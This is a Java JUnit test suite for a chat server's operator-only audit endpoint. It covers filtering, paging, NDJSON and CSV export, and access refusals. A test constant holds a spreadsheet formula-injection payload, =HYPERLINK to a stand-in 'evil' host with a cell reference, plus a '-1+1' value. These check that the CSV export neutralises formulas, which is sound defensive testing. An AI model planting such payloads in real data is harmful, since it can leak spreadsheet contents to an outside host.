package chat.parley.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import chat.parley.api.room.RoomEvent;
import chat.parley.server.Server.Answer;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/** {@code GET /audit}: who did what, and when, for the operator alone. */
@ServerTest
class AuditTest {
    private static final String FORMULA = "=HYPERLINK(\"http://evil/\"&A1,\"x\"),\r\nnext line";

    @Autowired
    private Server server;

    @Autowired
    private JdbcClient jdbc;

    private Server operator;
    private String room;

    @BeforeEach
    void eventfulRoom() {
        operator = server.asOperator();
        room = "audited-" + UUID.randomUUID();
        Server ada = server.as("ada");
        ada.post("/rooms", "{\"id\":\"%s\",\"name\":\"secret name\"}".formatted(room));
        String message = say(ada, "secret words");
        String path = "/rooms/" + room;
        done(ada.ask("PATCH", path + "/messages/" + message, "{\"content\":\"more secret words\"}"));
        done(ada.ask("PUT", path + "/messages/" + message + "/reactions/👍", ""));
        done(ada.ask("DELETE", path + "/messages/" + message + "/reactions/👍", ""));
        done(server.as("bob").ask("PUT", path + "/members/bob", ""));
        done(ada.ask("PUT", path + "/members/bob", "{\"role\":\"moderator\"}"));
        done(server.as("bob").ask("DELETE", path + "/messages/" + message, "{\"reason\":\"spam\"}"));
        done(ada.ask("DELETE", path + "/members/bob", "{\"reason\":\"-1+1\"}"));
        done(ada.ask(
                "PUT",
                path + "/bans/bob",
                Server.JSON.createObjectNode().put("reason", FORMULA).toString()));
        done(ada.ask("DELETE", path + "/bans/bob", ""));
        done(server.as("eve").ask("PUT", path + "/members/eve", ""));
        done(server.as("eve").ask("DELETE", path + "/members/eve", ""));
        done(ada.ask("PATCH", path, "{\"name\":\"another\",\"topic\":\"secret topic\"}"));
        done(ada.ask("DELETE", path, ""));
    }

    @Test
    void tellsEveryDeedAndNoWords() {
        Answer page = operator.get("/audit?room=%s&limit=200".formatted(room));
        assertThat(page.status()).isEqualTo(200);
        List<String> deeds = new ArrayList<>();
        page.json()
                .forEach(deed -> deeds.add("%s %s %s"
                        .formatted(
                                deed.get("type").asString(),
                                deed.path("by").asString("-"),
                                deed.path("subject").asString("-").length() == 36
                                        ? "MESSAGE"
                                        : deed.path("subject").asString("-"))));
        assertThat(deeds)
                .containsExactly(
                        "room.opened ada -",
                        "member.joined ada ada",
                        "message.posted ada MESSAGE",
                        "message.edited ada MESSAGE",
                        "reaction.added ada MESSAGE",
                        "reaction.removed ada MESSAGE",
                        "member.joined bob bob",
                        "member.role-changed ada bob",
                        "message.deleted bob MESSAGE",
                        "member.removed ada bob",
                        "member.banned ada bob",
                        "member.unbanned ada bob",
                        "member.joined eve eve",
                        "member.left eve eve",
                        "room.renamed ada -",
                        "room.topic-changed ada -",
                        "room.archived ada -");
        assertThat(page.text()).doesNotContain("secret").contains("\"reason\":\"spam\"");
        List<String> feed = new ArrayList<>();
        server.get("/rooms/%s/events".formatted(room)).json().forEach(event -> feed.add(place(event, "createdAt")));
        List<String> audit = new ArrayList<>();
        page.json().forEach(deed -> audit.add(place(deed, "at")));
        assertThat(audit).as("types, places and times are the feed's").isEqualTo(feed);
        assertThat(new TreeSet<>(page.json().findValuesAsString("type")))
                .as("every kind of event")
                .hasSize(RoomEvent.class.getPermittedSubclasses().length);
    }

    private static String place(JsonNode event, String time) {
        return event.get("type") + " " + event.get("sequence") + " " + event.get(time);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            type=member.banned                      | 10
            by=bob                                  | 6,8
            by=eve&type=member.left                 | 13
            by=nobody                               |
            until=2020-01-01T00:00:00Z              |
            since=2999-01-01T00:00:00%2B02:00       |
            """)
    void leavesOutWhatIsNotAskedFor(String query, String sequences) {
        List<String> found =
                operator.get("/audit?room=%s&%s".formatted(room, query)).json().findValuesAsString("sequence");
        assertThat(String.join(",", found)).isEqualTo(sequences == null ? "" : sequences);
    }

    @Test
    void knowsWhatWasDoneInATime() {
        JsonNode all = operator.get("/audit?limit=200&room=" + room).json();
        for (int first = 0; first < 17; first += 4) {
            Instant since = Instant.parse(all.get(first).get("at").asString());
            Instant until =
                    Instant.parse(all.get(Math.min(16, first + 6)).get("at").asString());
            List<JsonNode> expected = all.valueStream()
                    .filter(deed -> !Instant.parse(deed.get("at").asString()).isBefore(since)
                            && Instant.parse(deed.get("at").asString()).isBefore(until))
                    .toList();
            for (String where : List.of("room=%s&".formatted(room), "")) {
                List<JsonNode> found = new ArrayList<>();
                Optional<String> next =
                        Optional.of("/audit?%slimit=3&since=%s&until=%s".formatted(where, since, until));
                while (next.isPresent()) {
                    Answer page = operator.get(next.get());
                    page.json().forEach(found::add);
                    next = page.next();
                }
                found.removeIf(deed -> !deed.get("room").asString().equals(room));
                assertThat(found).containsExactlyElementsOf(expected);
            }
        }
    }

    @Test
    void isTheOperatorsAlone() {
        assertThat(server.get("/audit").code()).isEqualTo("session-required");
        assertThat(server.as("not the operator").get("/audit").code()).isEqualTo("operators-only");
        assertThat(server.as("not the operator").get("/audit?format=csv").code())
                .isEqualTo("operators-only");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "&by=talker", "&type=message.posted", "&by=talker&type=message.posted"})
    void pagesWithoutAGapWhileOthersTalk(String filter) {
        String busy = server.newRoom();
        AtomicBoolean talking = new AtomicBoolean(true);
        AtomicInteger said = new AtomicInteger();
        Server talker = server.as("talker");
        CompletableFuture<Void> talk = CompletableFuture.runAsync(
                () -> {
                    while (talking.get()) {
                        done(talker.post("/rooms/%s/messages".formatted(busy), "{\"content\":\"hello\"}"));
                        said.incrementAndGet();
                    }
                },
                task -> Thread.ofPlatform().start(task));
        await().until(() -> said.get() > 60);
        List<String> seen = new ArrayList<>();
        Optional<String> next = Optional.of("/audit?limit=7" + filter);
        while (next.isPresent()) {
            Answer page = operator.get(next.get());
            assertThat(page.status()).as(page.text()).isEqualTo(200);
            assertThat(page.json().size()).isLessThanOrEqualTo(7);
            page.json().forEach(deed -> seen.add(deed.get("room").asString() + deed.get("sequence")));
            next = page.next();
            if (seen.size() > 300) {
                talking.set(false);
                talk.join();
            }
        }
        talking.set(false);
        talk.join();
        List<String> stored = stored(filter);
        assertThat(seen).hasSizeGreaterThan(60).containsExactlyElementsOf(stored.subList(0, seen.size()));
    }

    /** Where everything is that such a filter leaves. */
    private List<String> stored(String filter) {
        return jdbc.sql("""
                        select aggregate_id || sequence_number from event_store.readable_event
                        where (not ? or payload_type = 'room.MessagePosted')
                            and (not ? or payload ->> 'username' = 'talker' and payload_type in
                                ('room.MessagePosted', 'room.MemberJoined'))
                        order by global_index
                        """)
                .param(filter.contains("type"))
                .param(filter.contains("by"))
                .query(String.class)
                .list();
    }

    @Test
    void isAFileOfLines() {
        Answer file = operator.send(operator.request("/audit?room=" + room).header("Accept", "application/x-ndjson"));
        assertThat(file.response().headers().firstValue("Content-Type"))
                .get()
                .asString()
                .startsWith("application/x-ndjson");
        JsonNode page = operator.get("/audit?room=%s&limit=200".formatted(room)).json();
        assertThat(file.text().lines().map(Server.JSON::readTree).toList())
                .containsExactlyElementsOf(page.valueStream().toList());
        assertThat(operator.get("/audit?format=ndjson&room=" + room).text()).isEqualTo(file.text());
        String next = operator.get("/audit?limit=16&room=" + room).next().orElseThrow();
        assertThat(operator.get(next + "&format=ndjson").text().lines()).hasSize(1);
    }

    @Test
    void isATableWithoutFormulas() {
        Answer file = operator.send(operator.request("/audit?room=" + room).header("Accept", "text/csv, */*;q=0.1"));
        assertThat(file.response().headers().firstValue("Content-Type"))
                .get()
                .asString()
                .startsWith("text/csv");
        assertThat(file.response().headers().firstValue("Content-Disposition"))
                .get()
                .asString()
                .contains("csv");
        List<String> lines = List.of(file.text().split("\r\n"));
        assertThat(lines).hasSize(19); // the head, 17 events, and one reason of two lines
        assertThat(lines.getFirst()).isEqualTo("type,room,sequence,at,by,subject,reason");
        assertThat(lines.get(1)).matches("room\\.opened,%s,0,[^,]+Z,ada,,".formatted(room));
        assertThat(file.text()).contains(",ada,bob,'-1+1\r\n");
        assertThat(file.text())
                .contains(
                        ",ada,bob,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\"),\r\nnext line\"\r\nmember.unbanned,");
        assertThat(operator.get("/audit?format=csv&room=" + room).text()).isEqualTo(file.text());
    }

    @ParameterizedTest
    @CsvSource(textBlock = """
            /audit?room=Odd,                     invalid-room-id
            /audit?room=nowhere,                 room-not-found
            /audit?format=csv&room=nowhere,      room-not-found
            /audit?type=member.flown,            invalid-parameter
            /audit?since=yesterday,              invalid-parameter
            /audit?until=2026-01-01,             invalid-parameter
            /audit?format=xml,                   invalid-parameter
            /audit?limit=0,                      invalid-limit
            /audit?limit=201,                    invalid-limit
            /audit?after=5,                      invalid-cursor
            /audit?after=bG9nOjE%3D,             invalid-cursor
            /audit?room=general&after=bG9nOjE,   invalid-cursor
            """)
    void isRefused(String path, String code) {
        Answer answer = operator.get(path);
        assertThat(answer.code()).isEqualTo(code);
        assertThat(answer.response().headers().firstValue("Content-Disposition"))
                .isEmpty();
        assertThat(operator.send(operator.request("/audit").header("Accept", "image/png"))
                        .code())
                .isEqualTo("not-acceptable");
    }

    private String say(Server speaker, String content) {
        Answer posted = speaker.post("/rooms/%s/messages".formatted(room), Server.message(UUID.randomUUID(), content));
        done(posted);
        return posted.json().get("messageId").asString();
    }

    private static void done(Answer answer) {
        assertThat(answer.status()).as(answer.text()).isBetween(200, 204);
    }
}
